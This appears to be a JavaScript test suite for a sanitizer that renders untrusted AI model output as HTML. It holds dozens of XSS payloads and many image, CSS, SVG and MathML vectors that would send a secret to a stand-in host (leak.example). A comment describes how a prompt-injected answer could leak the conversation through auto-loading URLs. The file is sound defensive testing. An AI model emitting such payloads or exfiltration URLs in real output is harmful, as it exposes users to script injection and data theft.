// Model output is untrusted: nothing that runs script, loads a frame or restyles the page
// may reach the DOM, whether it arrives whole or split across chunks.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { render, stream, splitAt, document } from './dom.js';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src="https://e.org/x.png" onerror="alert(1)">',
  '<img src=x onerror=alert(1)//>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload="alert(1)"><circle r="5"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><iframe src="https://e.org"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<iframe src="https://e.org"></iframe>',
  '<object data="https://e.org/x.swf"></object><embed src="https://e.org/x.swf">',
  '<form action="https://e.org"><input name="password"><button>Log in</button></form>',
  '<style>body { display: none }</style>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url(https://e.org/t.png)">x</div>',
  '<p style="background-image: url(&quot;https://e.org/t&quot;)">x</p>',
  '<base href="https://e.org/">',
  '<meta http-equiv="refresh" content="0;url=https://e.org">',
  '<link rel="stylesheet" href="https://e.org/x.css">',
  '<details open ontoggle="alert(1)">x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<div id="getElementById">clobber</div><form name="body"></form>',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\url{javascript:alert(1)}$$',
  '$\\htmlClass{x}{y}$ $\\rule{999em}{999em}$',
  '```html\n<script>alert(1)</script>\n```',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
];

function assertInert(container, label) {
  for (const el of container.querySelectorAll('*')) {
    const name = el.localName;
    assert.ok(!['script', 'iframe', 'object', 'embed', 'form', 'input', 'button', 'style', 'base', 'meta', 'link', 'foreignobject', 'animate', 'annotation-xml'].includes(name.toLowerCase()), `${label}: <${name}> survived`);
    for (const { name: attr, value } of el.attributes) {
      assert.ok(!/^on/i.test(attr), `${label}: ${attr} on <${name}> survived`);
      if (/href|src|action|data/i.test(attr)) {
        assert.ok(!/^\s*(javascript|vbscript|data:text)/i.test(value), `${label}: ${attr}=${value} survived`);
        assert.ok(/^(https?:|mailto:|#|data:image\/)/i.test(value), `${label}: ${attr}=${value} is not an absolute safe URL`);
      }
      if (attr === 'style') assert.ok(!/url\(|fixed|expression|@import/i.test(value), `${label}: style=${value} survived`);
      if (attr === 'id' || attr === 'name') assert.match(value, /^user-content-/, `${label}: ${attr}=${value} can clobber`);
    }
  }
}

test('script, handlers, javascript:/data: links, frames, forms and style tricks never reach the DOM', () => {
  for (const payload of PAYLOADS) {
    const container = document.createElement('div');
    container.innerHTML = render(`Before\n\n${payload}\n\nafter *text*`);
    assertInert(container, JSON.stringify(payload));
  }
});

test('payloads split across chunk boundaries stay inert at every render', () => {
  for (const payload of PAYLOADS) {
    const text = `Intro ${payload} tail\n\n${payload}\n`;
    for (let step = 1; step <= 7; step += 3) {
      const offsets = [];
      for (let at = step; at < text.length; at += step) offsets.push(at);
      const { container } = stream(splitAt(text, offsets), {
        onRender: (live) => assertInert(live, `${JSON.stringify(payload)} in chunks of ${step}`),
      });
      assertInert(container, JSON.stringify(payload));
    }
  }
});

test('links open in a new tab without an opener; KaTeX, highlight.js and tables keep their markup', () => {
  const container = document.createElement('div');
  container.innerHTML = render(
    '[site](https://example.org) and <a href="https://example.org/raw">raw</a>\n\n' +
      '$\\frac{a}{b}$\n\n```python\ndef f(): pass\n```\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |\n',
  );
  for (const a of container.querySelectorAll('a')) {
    assert.equal(a.getAttribute('target'), '_blank');
    assert.equal(a.getAttribute('rel'), 'noopener noreferrer nofollow');
  }
  assert.ok(container.querySelector('.katex .katex-html .mfrac'), 'KaTeX HTML kept');
  assert.ok(container.querySelector('.katex math semantics annotation'), 'KaTeX MathML kept');
  assert.match(container.querySelector('.katex-html [style]').getAttribute('style'), /height|top|vertical-align/);
  assert.ok(container.querySelector('.gw-code pre code.hljs.language-python .hljs-keyword'), 'highlight classes kept');
  assert.equal(container.querySelector('td').getAttribute('style'), 'text-align:right');
});

// ---- nothing fetches by itself: remote images are an exfiltration channel ----------------

// A prompt-injected answer can put the conversation into a URL; anything the browser loads
// without a click sends it. Every vector below must come out with no attribute that loads.
const REMOTE = 'https://leak.example/p.png?q=SECRET';
const FETCH_VECTORS = [
  ['markdown image', `![secret chart](${REMOTE})`],
  ['markdown image with title', `![chart](${REMOTE} "title")`],
  ['reference-style image', `![chart][r]\n\n[r]: ${REMOTE}`],
  ['autolinked image URL in text stays a link', `see ${REMOTE}`],
  ['<img src>', `<img src="${REMOTE}" alt="chart">`],
  ['<IMG SRC> upper case', `<IMG SRC="${REMOTE}" ALT=chart>`],
  ['<img> with spaces around the URL', `<img src="  ${REMOTE}  ">`],
  ['<img> protocol-relative', '<img src="//leak.example/p.png?q=SECRET">'],
  ['<img> relative (Jupyter server)', '<img src="/files/secret.png?q=SECRET">'],
  ['<img> attachment:', '![a](attachment:secret.png)'],
  ['<img> data:image/svg+xml', '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22https://leak.example/s%22/%3E%3C/svg%3E">'],
  ['<img> data:text/html', '<img src="data:text/html,<b>x</b>">'],
  ['<image> (parsed as <img>)', `<image src="${REMOTE}">`],
  ['<img srcset>', `<img srcset="${REMOTE} 1x">`],
  ['<img> data: src with remote srcset', `<img src="data:image/png;base64,iVBORw0KGgo=" srcset="${REMOTE} 2x">`],
  ['<img lowsrc/dynsrc/longdesc>', `<img lowsrc="${REMOTE}" dynsrc="${REMOTE}" longdesc="${REMOTE}">`],
  ['<picture><source srcset>', `<picture><source srcset="${REMOTE}"><img src="${REMOTE}" alt="pic"></picture>`],
  ['<video poster src>', `<video poster="${REMOTE}" src="${REMOTE}"></video>`],
  ['<video><source src>', `<video><source src="${REMOTE}"><track src="${REMOTE}"></video>`],
  ['<audio src>', `<audio src="${REMOTE}" autoplay></audio>`],
  ['<link rel=stylesheet>', `<link rel="stylesheet" href="${REMOTE}">`],
  ['<link rel=preload as=image>', `<link rel="preload" as="image" href="${REMOTE}">`],
  ['<link rel=prefetch/dns-prefetch>', `<link rel="prefetch" href="${REMOTE}"><link rel="dns-prefetch" href="//leak.example">`],
  ['<meta refresh>', `<meta http-equiv="refresh" content="0;url=${REMOTE}">`],
  ['style background url()', `<div style="background:url(${REMOTE})">x</div>`],
  ['style background-image url("")', `<p style="background-image: url(&quot;${REMOTE}&quot;)">x</p>`],
  ['style url() behind a CSS escape', `<p style="background-image: u\\72l(${REMOTE})">x</p>`],
  ['style image-set()', `<p style="background-image:image-set('${REMOTE}' 1x)">x</p>`],
  ['style list-style-image/cursor/border-image/content', `<ul style="list-style-image:url(${REMOTE});cursor:url(${REMOTE}),auto;border-image:url(${REMOTE}) 30"><li style="content:url(${REMOTE})">x</li></ul>`],
  ['<style> @import', `<style>@import url(${REMOTE});</style>`],
  ['background attribute', `<table background="${REMOTE}"><tr><td background="${REMOTE}">x</td></tr></table>`],
  ['<body background>', `<body background="${REMOTE}">x</body>`],
  ['<input type=image>', `<input type="image" src="${REMOTE}">`],
  ['<iframe>/<object>/<embed>', `<iframe src="${REMOTE}"></iframe><object data="${REMOTE}"></object><embed src="${REMOTE}">`],
  ['svg <image href>', `<svg><image href="${REMOTE}" width="10" height="10"/></svg>`],
  ['svg <image xlink:href>', `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${REMOTE}"/></svg>`],
  ['svg <image> data: href', '<svg><image href="data:image/png;base64,iVBORw0KGgo="/></svg>'],
  ['svg <use href>', `<svg><use href="${REMOTE}#a"/><use xlink:href="${REMOTE}#b"/></svg>`],
  ['svg <feImage>', `<svg><filter id="f"><feImage href="${REMOTE}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`],
  ['svg fill/filter/mask/clip-path/marker url()', `<svg><rect fill="url(${REMOTE}#p)" stroke="URL(${REMOTE}#p)" filter="url(${REMOTE}#f)" mask="url(${REMOTE}#m)" clip-path="url(${REMOTE}#c)" marker-start="url(${REMOTE}#k)" width="9" height="9"/></svg>`],
  ['svg attribute url() behind an escape', `<svg><rect fill="u\\72l(${REMOTE})" width="9" height="9"/></svg>`],
  ['svg <pattern>/<linearGradient>/<textPath>/<mpath>/<tref> href', `<svg><pattern href="${REMOTE}"/><linearGradient xlink:href="${REMOTE}"/><text><textPath href="${REMOTE}">t</textPath><tref xlink:href="${REMOTE}"/></text><animateMotion><mpath href="${REMOTE}"/></animateMotion></svg>`],
  ['svg <style>', `<svg><style>rect{fill:url(${REMOTE})}</style></svg>`],
  ['svg inline style url()', `<svg><rect style="fill:url(${REMOTE})" width="9" height="9"/></svg>`],
  ['MathML <mglyph src>', `<math><mglyph src="${REMOTE}" alt="g"/></math>`],
  ['MathML href', `<math><mi href="${REMOTE}">x</mi></math>`],
  ['KaTeX \\includegraphics', `$\\includegraphics[height=1em]{${REMOTE}}$`],
  ['KaTeX \\href/\\url', `$\\href{${REMOTE}}{x}$ $$\\url{${REMOTE}}$$`],
  ['image inside a link (badge)', `[![badge](${REMOTE})](https://example.org/page)`],
  ['svg <a> around an image', `<svg><a href="https://example.org"><image href="${REMOTE}"/></a></svg>`],
];

// Attributes that make a browser fetch without a click, wherever they appear.
const FETCHING_ATTRS = ['srcset', 'poster', 'background', 'lowsrc', 'dynsrc', 'data', 'imagesrcset', 'ping'];
const FETCHING_TAGS = ['link', 'source', 'track', 'video', 'audio', 'input', 'iframe', 'frame', 'object', 'embed', 'style', 'meta', 'base', 'use', 'script'];
const SAFE_DATA_IMAGE = /^data:image\/(png|jpe?g|gif|webp|avif|bmp)[;,]/i;
const HTML = 'http://www.w3.org/1999/xhtml';

function assertFetchesNothing(container, label) {
  for (const el of container.querySelectorAll('*')) {
    const tag = el.localName.toLowerCase();
    assert.ok(!FETCHING_TAGS.includes(tag), `${label}: <${tag}> survived`);
    if (tag === 'img') {
      assert.match(el.getAttribute('src') ?? '', SAFE_DATA_IMAGE, `${label}: <img src=${el.getAttribute('src')}> fetches`);
    }
    const isLink = (tag === 'a' || tag === 'area') && (el.namespaceURI === HTML || el.namespaceURI.endsWith('/svg'));
    for (const { name, localName, value } of el.attributes) {
      assert.ok(!FETCHING_ATTRS.includes(localName), `${label}: ${name} on <${tag}> survived`);
      if (localName === 'src') assert.equal(tag, 'img', `${label}: src on <${tag}> survived`);
      if (localName === 'href' && !isLink) {
        assert.ok(value.startsWith('#'), `${label}: ${name}=${value} on <${tag}> survived`);
      }
      if (name !== 'title' && name !== 'alt' && !(localName === 'href' && isLink)) {
        assert.ok(!/url\s*\(|image-set|\\/i.test(value), `${label}: ${name}=${value} on <${tag}> can load`);
      }
    }
  }
}

test('remote images, srcset, media, CSS url(), SVG/MathML references: nothing fetches', () => {
  for (const [label, source] of FETCH_VECTORS) {
    const container = document.createElement('div');
    container.innerHTML = render(`Before\n\n${source}\n\nafter *text*`);
    assertFetchesNothing(container, label);
    assert.match(container.textContent, /after text/, `${label}: the rest of the answer is gone`);
  }
});

test('fetching vectors split across chunk boundaries fetch nothing at any render', () => {
  for (const [label, source] of FETCH_VECTORS) {
    const text = `Intro ${source} tail\n\n${source}\n`;
    for (const step of [1, 4, 7]) {
      const offsets = [];
      for (let at = step; at < text.length; at += step) offsets.push(at);
      const { container } = stream(splitAt(text, offsets), {
        onRender: (live, soFar) => assertFetchesNothing(live, `${label} in chunks of ${step}, at ${soFar.length}`),
      });
      assertFetchesNothing(container, `${label} in chunks of ${step}`);
    }
  }
});

test('a remote image becomes its alt text and a link to the URL; nothing else is lost', () => {
  const container = document.createElement('div');
  container.innerHTML = render(`Here: ![secret chart](${REMOTE}) and <img src="http://host.example:8080/a.png"> done.`);
  assert.equal(container.querySelectorAll('img').length, 0);
  const [first, second] = container.querySelectorAll('.gw-blocked-image');
  assert.equal(first.textContent, 'secret chart (image from leak.example not loaded)');
  assert.equal(first.getAttribute('title'), `Image not loaded: ${REMOTE}`);
  const link = first.querySelector('a');
  assert.equal(link.getAttribute('href'), REMOTE);
  assert.equal(link.getAttribute('target'), '_blank');
  assert.equal(link.getAttribute('rel'), 'noopener noreferrer nofollow');
  assert.equal(second.textContent, 'image from host.example:8080 not loaded');
  assert.equal(second.querySelector('a').getAttribute('href'), 'http://host.example:8080/a.png');
  assert.match(container.textContent, /^Here: .* and .* done\.\s*$/);
});

test('alt text is text, never markup; an image in a link does not nest a second link', () => {
  const container = document.createElement('div');
  container.innerHTML = render(
    `<img alt="&lt;img src=x onerror=alert(1)&gt;" src="${REMOTE}">\n\n` +
      `[![build passing](${REMOTE})](https://example.org/ci)\n\n![relative](/logout) ![](attachment:a.png)`,
  );
  const [markup, badge, relative, bare] = container.querySelectorAll('.gw-blocked-image');
  assert.equal(markup.querySelectorAll('*').length, 1, 'the link only');
  assert.match(markup.textContent, /<img src=x onerror=alert\(1\)> \(image from leak\.example not loaded\)/);
  assert.equal(badge.closest('a').getAttribute('href'), 'https://example.org/ci');
  assert.equal(badge.querySelector('a'), null);
  assert.match(badge.textContent, /build passing \(image from leak\.example not loaded\)/);
  assert.match(badge.getAttribute('title'), /SECRET/);
  // Relative and attachment: sources would resolve against the Jupyter server: no URL, no link.
  assert.equal(relative.textContent, 'relative (image not loaded)');
  assert.equal(bare.textContent, 'image not loaded');
  assert.deepEqual([...container.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')), [REMOTE, 'https://example.org/ci']);
});

test('an inline raster data: image still renders as <img>', () => {
  const container = document.createElement('div');
  const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
  container.innerHTML = render(`![dot](${png}) <img src="data:image/jpeg;base64,/9j/4AAQ" alt="j"> <img src="data:image/gif;base64,R0lGODlh" alt="g">`);
  const images = container.querySelectorAll('img');
  assert.deepEqual([...images].map((img) => img.getAttribute('alt')), ['dot', 'j', 'g']);
  assert.equal(images[0].getAttribute('src'), png);
  assert.equal(container.querySelectorAll('.gw-blocked-image').length, 0);
});

test('SVG links stay links (opened like the others); same-document references stay', () => {
  const container = document.createElement('div');
  container.innerHTML = render(
    '<svg><a href="https://example.org/svg"><text>t</text></a><a xlink:href="https://example.org/x"><text>u</text></a>' +
      '<pattern href="#p"></pattern></svg>',
  );
  const [svgLink, xlink] = container.querySelectorAll('svg a');
  assert.equal(svgLink.getAttribute('href'), 'https://example.org/svg');
  assert.equal(svgLink.getAttribute('rel'), 'noopener noreferrer nofollow');
  assert.equal(svgLink.getAttribute('target'), '_blank');
  assert.equal(xlink.getAttribute('xlink:href'), 'https://example.org/x');
  assert.equal(xlink.getAttribute('rel'), 'noopener noreferrer nofollow');
  assert.equal(container.querySelector('pattern').getAttribute('href'), '#p');
});

test('attributes that take no URL survive: KaTeX SVG geometry, MathML, list start, colspan', () => {
  const container = document.createElement('div');
  container.innerHTML = render(
    '$\\sqrt{x^2}$ $\\mathbf{v}$ $x \\xrightarrow{f} y$\n\n' +
      '<ol start="3" type="a"><li>c</li></ol>\n\n<table><tr><td colspan="2" align="right">a</td></tr></table>\n\n' +
      '<svg width="20" height="10" viewBox="0 0 20 10"><rect x="1" y="1" width="9" height="9" fill="red" stroke="url(https://leak.example/p)"/></svg>',
  );
  const radical = container.querySelector('.katex .sqrt svg');
  assert.ok(radical.getAttribute('viewBox'), 'KaTeX radical keeps its viewBox');
  assert.ok(radical.getAttribute('preserveAspectRatio'));
  assert.match(radical.querySelector('path').getAttribute('d'), /^M/, 'KaTeX radical keeps its path');
  assert.ok(container.querySelectorAll('.katex svg path[d]').length >= 2, 'KaTeX arrow keeps its path');
  assert.equal(container.querySelector('math mi[mathvariant="bold"]')?.textContent, 'v');
  assert.equal(container.querySelector('annotation').getAttribute('encoding'), 'application/x-tex');
  assert.equal(container.querySelector('ol').getAttribute('start'), '3');
  assert.equal(container.querySelector('td').getAttribute('colspan'), '2');
  const rect = container.querySelector('svg rect');
  assert.deepEqual(['x', 'width', 'fill'].map((a) => rect.getAttribute(a)), ['1', '9', 'red']);
  assert.equal(rect.getAttribute('stroke'), null, 'a url() paint still goes');
  assertFetchesNothing(container, 'kept attributes');
});
